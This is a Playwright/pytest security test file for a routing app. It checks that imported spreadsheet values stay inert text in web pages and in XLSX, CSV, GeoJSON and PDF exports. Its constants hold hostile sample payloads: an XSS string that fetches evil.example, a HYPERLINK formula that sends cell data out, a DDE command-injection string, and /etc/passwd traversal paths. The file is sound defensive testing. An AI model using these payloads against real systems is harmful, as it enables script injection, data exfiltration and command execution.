"""Formulas, scripts and paths that came in through the importer stay text: on pages, in XLSX, CSV and PDF."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from playwright.sync_api import Page, expect
from pypdf import PdfReader
from pypdf.generic import DictionaryObject

from app.exports.pdf.fonts import chinese_font
from app.factory import create_app
from data.domain.errors import UnavailableError
from data.settings import Settings
from data.store.accounts.users import Role
from data.store.engine import dispose, session
from data.store.migrate import upgrade
from data.store.plans.tables import Plan
from tests.browser.editing import NO_MAP
from tests.factories.rows import World
from tests.factories.serving import serving
from tests.factories.store import PASSWORD, FakeQueue, make_day, make_plan, make_user

pytestmark = pytest.mark.browser
SCRIPT = '"><img src=x onerror=alert(1)><script>fetch("http://evil.example/")</script>${7*7}{{7*7}}'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
PATH = "../../../etc/passwd"
FILE = "file:///etc/passwd"
REQUESTS = [
    ("ref", "centre", "date", "name", "lon", "lat", "address", "note", "material", "quantity"),
    ("R-1", "C-1", "{date}", SCRIPT, 110.001, 27.501, FORMULA, COMMAND, "fridge", 1),
    ("R-2", "C-1", "{date}", FORMULA, 110.002, 27.501, SCRIPT, PATH, "fridge", 1),
    (FORMULA[:60], "C-1", "{date}", COMMAND, 110.003, 27.501, FILE, SCRIPT, "fridge", 1),
    (PATH, "C-1", "{date}", PATH, 110.004, 27.501, COMMAND, FORMULA, "fridge", 1),
    ("R-9", "C-1", "{date}", SCRIPT, 110.004, 27.501, FORMULA, SCRIPT, FORMULA, 1),
]
TRUCKS = [("ref", "centre", "class", "plate", "driver_ref", "driver", "phone"),
          ("V-1", "C-1", "truck_4t", "=1+1<b>x</b>", "D-1", SCRIPT, "=1+1")]  # fmt: skip

FIGURES = {"routes": 1, "distance_m": 9000, "duration_s": 3600, "kg": 82.0, "cost": 100.0, "co2_kg": 4.2}


@dataclass
class Place:
    """A running installation with a day of a few requests."""

    url: str
    settings: Settings
    world: World


@pytest.fixture
def place(tmp_path: Path) -> Iterator[Place]:
    settings = Settings(home=tmp_path / "home", secret_key="a signing key for tests, long enough")
    upgrade(settings)
    world = make_day(settings, requests=2)
    make_user(settings, world.organisation_id, "chen", Role.ADMINISTRATOR)
    with serving(create_app(settings, queue=FakeQueue())) as address:
        yield Place(address, settings, world)
    dispose(settings)


def table(path: Path, rows: list[tuple[object, ...]], world: World) -> Path:
    book = Workbook()
    for row in rows:
        cells = [str(x).replace("{date}", world.date.isoformat()) if x == "{date}" else x for x in row]
        book.active.append(cells)
    for cells in book.active.iter_rows():  # as text, as a hostile sender would write it
        for cell in cells:
            if cell.data_type == "f":
                cell.data_type = "s"
    book.save(path)
    return path


def inert(page: Page) -> None:
    """Nothing of what was typed became an element."""
    page.wait_for_load_state("networkidle")
    assert page.locator("img[src=x], main script, main b:text-is('x')").count() == 0


def bring_in(page: Page, place: Place, kind: str, path: Path) -> None:
    page.goto(f"{place.url}/{'requests' if kind == 'requests' else 'network/vehicles'}/import")
    page.locator("input[type=file]").set_input_files(path)
    expect(page.locator(".would button")).to_be_enabled()
    inert(page)
    page.locator(".would button").click()
    expect(page.locator(".would[role=status]")).to_be_visible()
    inert(page)


def test_what_was_typed_stays_text_everywhere(page: Page, place: Place, tmp_path: Path) -> None:
    alerts: list[str] = []
    page.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))
    page.add_init_script(NO_MAP)
    page.goto(f"{place.url}/login")
    page.fill("#username", "chen")
    page.fill("#password", PASSWORD)
    page.click("button[type=submit]")
    expect(page.locator(".today")).to_be_visible()

    requests = table(tmp_path / "requests.xlsx", REQUESTS, place.world)
    bring_in(page, place, "requests", requests)
    expect(page.locator("section[aria-labelledby=bad-title]")).to_contain_text(FORMULA[:40])
    with page.expect_download() as download:
        page.locator("button", has_text="下载有问题的行").click()
    harmless_book(Path(download.value.path()).read_bytes(), holds=FORMULA)
    bring_in(page, place, "vehicles", table(tmp_path / "trucks.xlsx", TRUCKS, place.world))

    plan = make_plan(place.settings, place.world, "R-1", "R-2", published=True)
    with session(place.settings, write=True) as store:
        row = store.get_one(Plan, plan)
        row.figures = {**row.figures, **FIGURES}
        store.add(row)
    links = page.request.get(f"{place.url}/api/v1/plans/{plan}").json()["routes"]
    for where in ("/", "/requests", "/network/fleet", "/network/sites", f"/plans/{plan}?route=1",
                  f"/plans/{plan}/publish", f"/plans/{plan}/print", "/admin/history",
                  links[0]["driver_url"], links[0]["driver_url"] + "#list"):  # fmt: skip
        page.goto(place.url + where)
        inert(page)
    page.goto(f"{place.url}/requests")
    expect(page.locator("tr[data-ref=R-1]")).to_contain_text(SCRIPT)
    assert alerts == []

    export = f"{place.url}/api/v1/plans/{plan}/export"
    harmless_book(page.request.get(f"{export}/xlsx").body(), holds=SCRIPT)
    harmless_csv(page.request.get(f"{export}/csv").body())
    document = json.loads(page.request.get(f"{export}/geojson").body())
    assert SCRIPT in json.dumps(document, ensure_ascii=False).replace('\\"', '"')
    try:
        chinese_font()
    except UnavailableError:
        return  # the PDF cannot be made here; tests/unit/app/exports/plan/test_route_sheets.py says so
    harmless_pdf(page.request.get(f"{export}/pdf").body())


def harmless_book(content: bytes, *, holds: str) -> None:
    """No formula, no link, nothing outside; what begins like a formula is marked as text for good."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = archive.namelist()
        assert not [name for name in names if "external" in name.lower() or "vba" in name.lower()]
        assert not [name for name in names if b'TargetMode="External"' in archive.read(name)]
    found = set()
    for sheet in load_workbook(io.BytesIO(content)):
        for cell in (cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)):
            assert cell.data_type in {"s", "inlineStr"}
            assert cell.hyperlink is None
            assert cell.quotePrefix or cell.value.lstrip()[:1] not in tuple("=+-@")
            found.add(cell.value)
    assert holds in found


def harmless_csv(content: bytes) -> None:
    rows = [*csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))]
    cells = [cell for row in rows for cell in row]
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell.strip()[:1] in tuple("=+-@\t\r")]


def harmless_pdf(content: bytes) -> None:
    """No script, no action, no attachment, and no link but what we print ourselves."""
    document = PdfReader(io.BytesIO(content))
    active = {"/JS", "/JavaScript", "/AA", "/Launch", "/EmbeddedFiles", "/URI", "/SubmitForm"}
    for number in range(1, len(document.xref[0]) + 1 if document.xref.get(0) else 1):
        entry = document.get_object(number)
        if isinstance(entry, DictionaryObject):
            assert active.isdisjoint(entry.keys()), entry
    # The page that a reader opens at is a list; what would be done on opening is a dictionary.
    assert not isinstance(document.trailer["/Root"].get("/OpenAction"), DictionaryObject)
    text = "".join(page.extract_text() for page in document.pages)
    assert "onerror" in text.replace("\n", "")
